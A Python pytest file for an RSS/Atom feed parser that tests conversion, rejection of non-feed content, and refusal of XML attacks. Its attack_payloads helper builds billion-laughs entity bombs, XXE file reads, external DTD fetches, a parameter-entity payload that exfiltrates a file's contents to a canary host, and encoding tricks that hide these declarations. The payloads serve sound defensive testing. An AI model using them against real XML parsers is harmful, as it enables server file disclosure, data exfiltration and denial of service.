"""parse_feed: conversion to ParsedFeed, "not a feed" detection, and XML attacks."""

from __future__ import annotations

import base64
import io
import uuid
from dataclasses import astuple
from datetime import UTC, datetime
from pathlib import Path

import feedparser
import pytest

from signals.devserver import Response, RunningServer
from signals.fetch.feeds import MAX_FIELD, PROBLEMS, parse_feed, plain_text, refusal
from signals.fetch.http import Fetcher
from signals.models import FetchStatus, ParsedFeed

from .conftest import ServerFactory

FEED_URL = "https://news.example/feeds/rss.xml"
XML = {"content-type": "application/rss+xml; charset=utf-8"}


def rss(
    items: str, channel: str = "<title>Chan</title><link>https://news.example/</link>"
) -> bytes:
    return f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>{channel}{items}</channel></rss>'.encode()


# --------------------------------------------------------------------------- conversion


def test_rss_entries_are_converted() -> None:
    body = rss(
        """
        <item>
          <title>Des &lt;b&gt;élèves&lt;/b&gt; &amp;amp; des profs</title>
          <link>/2024/05/article?utm_source=rss&amp;id=7#comments</link>
          <guid isPermaLink="false"> tag:news.example,2024:7 </guid>
          <description><![CDATA[<p>Premier paragraphe &eacute;crit.</p><p>Second <a href="/x">lien</a></p>
            <script>alert(1)</script>]]></description>
          <pubDate>Tue, 10 Jun 2003 04:00:00 +0200</pubDate>
        </item>
        <item><title>Sans date</title><link>https://other.example/b</link></item>
        """,
        channel="<title>Le &lt;i&gt;Flux&lt;/i&gt;</title><link>https://news.example/?utm_medium=x</link><language>fr-FR</language>",
    )
    feed = parse_feed(body, XML, FEED_URL)
    assert feed.problem is None
    assert feed.link == "https://news.example/"
    assert feed.language == "fr-fr"
    first, second = feed.entries
    assert first.guid == "tag:news.example,2024:7"
    assert first.link == "https://news.example/2024/05/article?id=7"
    assert "<" not in first.title and "élèves" in first.title
    assert first.summary == "Premier paragraphe écrit.\nSecond lien"
    assert first.published == datetime(2003, 6, 10, 2, 0, tzinfo=UTC)
    assert second.published is None and second.guid is None
    assert second.link == "https://other.example/b"


def test_atom_entries_are_converted() -> None:
    body = b"""<?xml version="1.0" encoding="utf-8"?>
    <feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">
      <title type="text">a &lt; b &amp; c</title>
      <link rel="alternate" href="https://blog.example/"/>
      <entry xml:lang="fr">
        <id>urn:uuid:1</id>
        <title type="html">&lt;em&gt;Hello&lt;/em&gt; &amp;amp; bye</title>
        <link rel="alternate" href="posts/1"/>
        <updated>2024-05-01T10:00:00+02:00</updated>
        <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Only <b>content</b></p></div></content>
      </entry>
    </feed>"""
    feed = parse_feed(
        body, {"Content-Type": "application/atom+xml"}, "https://blog.example/feed/atom"
    )
    assert feed.problem is None
    assert feed.title == "a < b & c"  # text/plain: not mistaken for markup
    (e,) = feed.entries
    assert (e.guid, e.title, e.link) == (
        "urn:uuid:1",
        "Hello & bye",
        "https://blog.example/feed/posts/1",
    )
    assert e.summary == "Only content"
    assert e.published == datetime(2024, 5, 1, 8, 0, tzinfo=UTC)
    assert e.language == "fr"


def test_relative_links_resolve_against_the_final_url() -> None:
    body = rss("<item><title>t</title><link>../a</link></item>")
    feed = parse_feed(body, XML, "https://moved.example/x/y/feed.xml")
    assert feed.entries[0].link == "https://moved.example/x/a"


def test_unsafe_links_are_dropped() -> None:
    items = "".join(
        f"<item><title>t</title><link>{u}</link></item>"
        for u in ("javascript:alert(1)", "data:text/html,x", "ftp://a/b")
    )
    feed = parse_feed(rss(items), XML, FEED_URL)
    assert [e.link for e in feed.entries] == [None, None, None]


def test_fields_are_capped() -> None:
    huge = "x" * (3 * MAX_FIELD)
    body = rss(
        f"<item><title>{huge}</title><description>{huge}</description><guid>{huge}</guid></item>"
    )
    (e,) = parse_feed(body, XML, FEED_URL).entries
    assert len(e.title) == len(e.summary) == len(e.guid or "") == MAX_FIELD


def test_charset_from_headers() -> None:
    body = '<rss version="2.0"><channel><title>Élève</title></channel></rss>'.encode("latin-1")
    feed = parse_feed(body, {"Content-Type": "application/xml; charset=iso-8859-1"}, FEED_URL)
    assert feed.title == "Élève"


def test_bozo_feed_with_entries_is_kept() -> None:
    body = rss("<item><title>Tom & Jerry</title><link>https://a.example/1</link></item>")
    feed = parse_feed(body, XML, FEED_URL)
    assert feed.problem is None and feed.entries[0].title == "Tom & Jerry"


def test_empty_but_valid_feed_is_not_a_problem() -> None:
    feed = parse_feed(rss(""), XML, FEED_URL)
    assert (feed.problem, feed.entries, feed.title) == (None, [], "Chan")


@pytest.mark.parametrize(
    ("body", "headers", "problem"),
    [
        (b"", XML, "empty"),
        (b"  \n\t ", XML, "empty"),
        (
            b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Hi</p></body></html>",
            {"Content-Type": "text/html"},
            "html-page",
        ),
        (b"<html><body><a href='/feed'>feed</a></body></html>", {}, "html-page"),
        (
            b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
            b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html><body>x</body></html>',
            {"Content-Type": "text/html"},
            "html-page",
        ),
        (b"hello world, no markup", {"Content-Type": "text/plain"}, "not-a-feed"),
        (b'{"items": [1, 2]}', {"Content-Type": "application/json"}, "not-a-feed"),
        (b"<?xml version='1.0'?><note><to>x</to></note>", XML, "not-a-feed"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", {"Content-Type": "image/png"}, "not-a-feed"),
    ],
)
def test_not_a_feed(body: bytes, headers: dict[str, str], problem: str) -> None:
    feed = parse_feed(body, headers, FEED_URL)
    assert feed.problem == problem
    assert feed.problem in PROBLEMS
    assert feed.entries == []


def test_body_naming_a_file_is_not_read(tmp_path: Path) -> None:
    """feedparser opens bytes as a path: a body that *is* a path must not be read from disk."""
    on_disk = tmp_path / "local.xml"
    on_disk.write_bytes(rss("<item><title>SECRET LOCAL FILE</title></item>"))
    body = str(on_disk).encode()
    assert feedparser.parse(body).entries[0].title == "SECRET LOCAL FILE"  # the trap
    feed = parse_feed(body, XML, FEED_URL)
    assert feed.entries == [] and feed.problem == "not-a-feed"
    assert "SECRET" not in repr(feed)


def test_feedparser_gets_a_file_object(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[tuple[type, object]] = []
    real = feedparser.parse

    def spy(source: object, **kwargs: object) -> object:
        seen.append((type(source), kwargs.get("response_headers")))
        return real(source, **kwargs)

    monkeypatch.setattr(feedparser, "parse", spy)
    parse_feed(rss(""), {"Content-Type": "application/rss+xml", "ETag": "x"}, FEED_URL)
    ((kind, headers),) = seen
    assert kind is io.BytesIO
    assert headers == {
        "content-type": "application/rss+xml",
        "etag": "x",
        "content-location": FEED_URL,
    }


def test_plain_text() -> None:
    assert plain_text("<p>a&nbsp;&amp;&#233;</p><p>b</p>", "text/html") == "a &é\nb"
    assert plain_text("<p>a</p>\n<p>b</p>", "text/html", single_line=True) == "a b"
    assert plain_text("x < y > z", "text/plain") == "x < y > z"
    assert plain_text("ctrl\x00\x07 chars", None) == "ctrl chars"
    assert plain_text(None, None) == ""


# --------------------------------------------------------------------------- XML attacks


def _lol(one_line: bool) -> str:
    decls = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    ]
    sep = "" if one_line else "\n"
    return f"<!DOCTYPE rss [{sep}{sep.join(decls)}{sep}]>"


def _feed_with(
    doctype: str, title: str, prolog: str = '<?xml version="1.0" encoding="utf-8"?>\n'
) -> str:
    return (
        f"{prolog}{doctype}"
        f'<rss version="2.0"><channel><title>{title}</title>'
        f"<item><title>{title}</title><description>{title}</description>"
        f"<link>https://a.example/1</link></item></channel></rss>"
    )


def _utf7_everything(text: str) -> bytes:
    """UTF-7 with every non-alphanumeric character base64-shifted (hides '<!ENTITY')."""
    out = []
    for ch in text:
        if ch.isalnum() and ch.isascii():
            out.append(ch)
        else:
            out.append("+" + base64.b64encode(ch.encode("utf-16-be")).decode().rstrip("=") + "-")
    return "".join(out).encode("ascii")


def attack_payloads(canary: str, secret: Path) -> list[tuple[str, bytes, dict[str, str]]]:
    lol_one = _feed_with(_lol(one_line=True), "&lol9;", prolog='<?xml version="1.0"?>')
    lol_multi = _feed_with(_lol(one_line=False), "&lol9;")
    quadratic = _feed_with(f'<!DOCTYPE rss [<!ENTITY a "{"A" * 50_000}">]>', "&a;" * 2_000)
    file_uri = secret.as_uri()
    utf16_doc = lol_multi.replace('encoding="utf-8"', 'encoding="utf-16"')
    hidden = _feed_with(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{file_uri}">]>', "&xxe;", prolog="")
    xml = {"Content-Type": "application/rss+xml"}
    return [
        ("billion-laughs-multi-line", lol_multi.encode(), xml),
        ("billion-laughs-one-line", lol_one.encode(), xml),
        ("quadratic-blowup", quadratic.encode(), xml),
        (
            "xxe-file",
            _feed_with(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{file_uri}">]>', "&xxe;").encode(),
            xml,
        ),
        (
            "xxe-url",
            _feed_with(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{canary}/xxe">]>', "&xxe;").encode(),
            xml,
        ),
        (
            "external-dtd-system",
            _feed_with(f'<!DOCTYPE rss SYSTEM "{canary}/evil.dtd">', "t").encode(),
            xml,
        ),
        ("external-dtd-file", _feed_with(f'<!DOCTYPE rss SYSTEM "{file_uri}">', "t").encode(), xml),
        (
            "external-dtd-public",
            _feed_with(
                f'<!DOCTYPE rss PUBLIC "-//Evil//DTD Evil//EN" "{canary}/public.dtd">', "t"
            ).encode(),
            xml,
        ),
        (
            "parameter-entities",
            _feed_with(
                f'<!DOCTYPE rss [<!ENTITY % remote SYSTEM "{canary}/param.dtd"> %remote;]>', "&x;"
            ).encode(),
            xml,
        ),
        (
            "parameter-entity-exfiltration",
            _feed_with(
                f'<!DOCTYPE rss [<!ENTITY % file SYSTEM "{file_uri}">'
                f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{canary}/?x=%file;'>\">%eval;%exfil;]>",
                "t",
            ).encode(),
            xml,
        ),
        ("utf-16-le-bom", codecs_bom("utf-16-le") + utf16_doc.encode("utf-16-le"), xml),
        ("utf-16-be-bom", codecs_bom("utf-16-be") + utf16_doc.encode("utf-16-be"), xml),
        ("utf-16-le-no-bom", utf16_doc.encode("utf-16-le"), xml),
        (
            "utf-16-be-no-bom-charset-header",
            utf16_doc.encode("utf-16-be"),
            {"Content-Type": "application/xml; charset=utf-16be"},
        ),
        (
            "utf-32-le-bom",
            codecs_bom("utf-32-le") + lol_multi.replace("utf-8", "utf-32").encode("utf-32-le"),
            xml,
        ),
        (
            "lower-case-mid-line",
            (
                "<!-- x --> <!DOCTYPE rss [<!entity  a 'x'> ]>" + _feed_with("", "&a;", prolog="")
            ).encode(),
            xml,
        ),
        (
            "utf-7-hidden",
            b'<?xml version="1.0" encoding="utf-7"?>\n' + _utf7_everything(hidden),
            {"Content-Type": "application/xml"},
        ),
        (
            "utf-7-charset-header",
            _utf7_everything(hidden),
            {"Content-Type": "application/xml; charset=utf-7"},
        ),
        (
            "ebcdic",
            _feed_with(
                f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{file_uri}">]>',
                "&xxe;",
                prolog='<?xml version="1.0" encoding="cp037"?>',
            ).encode("cp037"),
            xml,
        ),
    ]


def codecs_bom(codec: str) -> bytes:
    return "\ufeff".encode(codec)


ATTACK_IDS = [name for name, _, _ in attack_payloads("http://c", Path("/s"))]


@pytest.fixture
def secret(tmp_path: Path) -> tuple[Path, str]:
    token = f"TOP-SECRET-{uuid.uuid4().hex}"
    path = tmp_path / "secret.txt"
    path.write_text(token)
    return path, token


def _all_text(feed: ParsedFeed) -> list[str]:
    out = [feed.title, feed.link or "", feed.language or ""]
    for e in feed.entries:
        out += [str(x) for x in astuple(e)]
    return out


@pytest.mark.parametrize("name", ATTACK_IDS)
def test_xml_attacks_are_refused(
    name: str,
    server: ServerFactory,
    canary: RunningServer,
    fetcher: Fetcher,
    secret: tuple[Path, str],
) -> None:
    path, token = secret
    payload, headers = next(
        (b, h) for n, b, h in attack_payloads(canary.base_url, path) if n == name
    )
    srv = server(lambda _p, _h: Response(200, payload, headers))
    r = fetcher.fetch(srv.base_url + "/feed.xml")
    assert r.status is FetchStatus.OK and r.body == payload
    feed = parse_feed(r.body, r.headers, r.final_url or r.url)
    assert feed.problem is not None and feed.problem.startswith("refused"), feed.problem
    assert feed.entries == []
    assert all(len(t) < 1_000_000 for t in _all_text(feed))
    assert token not in repr(feed)
    assert canary.hits == []


def test_every_attack_is_caught_before_feedparser(
    canary: RunningServer, secret: tuple[Path, str]
) -> None:
    payloads = attack_payloads(canary.base_url, secret[0])
    assert len(payloads) >= 10
    for name, body, headers in payloads:
        assert refusal(body, headers) is not None, name


def test_why_one_line_entities_must_be_refused() -> None:
    """feedparser strips a DOCTYPE only at a line start: a one-line bomb reaches expat.
    (Three levels here — 1,000×; the real thing is 10⁸.)"""
    decls = '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    body = f'<?xml version="1.0"?><!DOCTYPE rss [{decls}]><rss version="2.0"><channel><title>&c;</title></channel></rss>'.encode()
    assert len(feedparser.parse(io.BytesIO(body)).feed.title) == 1000
    assert parse_feed(body, XML, FEED_URL).problem == "refused-entity"


@pytest.mark.parametrize(
    "extra",
    [
        '<?xml-stylesheet type="text/xsl" href="{canary}/style.xsl"?>',
        "",
    ],
)
def test_harmless_references_are_not_followed(
    extra: str, canary: RunningServer, secret: tuple[Path, str]
) -> None:
    """Not refused, but nothing is fetched or read: stylesheets, XInclude, xml:base."""
    path, token = secret
    body = (
        '<?xml version="1.0" encoding="utf-8"?>'
        + extra.format(canary=canary.base_url)
        + '<rss version="2.0" '
        'xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>t</title>'
        f'<item xml:base="{canary.base_url}/"><title>x</title><link>rel</link>'
        f'<description><xi:include href="{path.as_uri()}" parse="text"/></description>'
        f'<enclosure url="{canary.base_url}/e.mp3" type="audio/mpeg" length="1"/></item>'
        "</channel></rss>"
    ).encode()
    feed = parse_feed(body, XML, FEED_URL)
    assert feed.problem is None and len(feed.entries) == 1
    assert token not in repr(feed)
    assert canary.hits == []


def test_netscape_public_doctype_is_accepted() -> None:
    body = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        b'<rss version="0.91"><channel><title>Old</title><item><title>i</title><link>https://a.example/</link></item></channel></rss>'
    )
    feed = parse_feed(body, XML, FEED_URL)
    assert feed.problem is None and feed.entries[0].title == "i"


def test_doctype_text_inside_content_is_not_a_doctype() -> None:
    body = rss(
        '<item><title>t</title><description><![CDATA[<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><p>x</p>]]></description></item>'
    )
    assert parse_feed(body, XML, FEED_URL).problem is None
